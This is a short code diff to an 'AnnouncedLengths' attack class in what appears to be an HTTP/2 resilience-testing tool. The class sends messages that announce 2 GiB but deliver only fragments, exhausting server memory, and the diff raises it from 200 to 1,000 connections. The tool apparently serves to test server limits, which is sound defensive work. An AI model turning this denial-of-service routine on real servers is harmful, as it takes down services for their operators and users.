@@ -220,18 +220,18 @@ class AnnouncedLengths(Attack):
     """Messages of 2 GiB of which only the beginning comes, and not to the end of its frame."""
 
     name = "announced-lengths"
-    summary = "200 connections, each with ten messages of 2 GiB, of which 20 KB come, half a frame last"
+    summary = "1,000 connections, each with five messages of 2 GiB, of which 20 KB come, half a frame last"
     limit = "memory grows with what has come; `--limit stall_timeout` (60 s)"
     stops = ("closed", "reset", "GOAWAY")
-    connections = 200
+    connections = 1_000
 
     async def strike(self, peer: Peer) -> None:
         await peer.send(greeting())
         begin = struct.pack(">BI", 0, 2**31 - 1) + bytes(16_379)
-        for stream_id in range(1, 21, 2):
+        for stream_id in range(1, 11, 2):
             await peer.send(frame(Kind.HEADERS, END_HEADERS, stream_id, _BLOCK), 1)
             await peer.send(frame(Kind.DATA, 0, stream_id, begin))
-        await peer.send(frame(Kind.DATA, 0, 19, bytes(500_000))[:4_000])
+        await peer.send(frame(Kind.DATA, 0, 9, bytes(500_000))[:4_000])
         await peer.wait_over()
 
 
